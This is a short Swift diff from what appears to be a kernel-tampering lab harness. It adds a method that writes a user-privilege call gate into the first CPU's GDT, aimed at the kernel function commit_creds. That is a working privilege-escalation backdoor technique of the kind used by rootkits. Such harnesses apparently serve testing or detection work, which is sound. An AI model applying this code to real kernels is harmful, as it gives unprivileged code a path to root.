@@ -132,6 +132,16 @@ extension Tampering {
     try apply(changes)
   }
 
+  /// Puts a gate among the first processor's segments, where programs have theirs: it leads to a function of the kernel's.
+  package func addGateAmongSegments() throws(LabError) {
+    let table = try system.symbol("gdt_page") &+ word(at: system.symbol("__per_cpu_offset"))
+    let target = try system.symbol("commit_creds")
+    var changes = WordChanges(self)
+    changes.store(target & 0xffff | 0x10 << 16 | 0xec00 << 32 | (target >> 16 & 0xffff) << 48, at: table &+ 96)
+    changes.store(target >> 32, at: table &+ 104)
+    try apply(changes)
+  }
+
   /// Registers a character device of ours: `struct char_device_struct`, fs/char_dev.c.
   package func addCharacterDevice() throws(LabError) {
     let page = try plantUnownedPage()
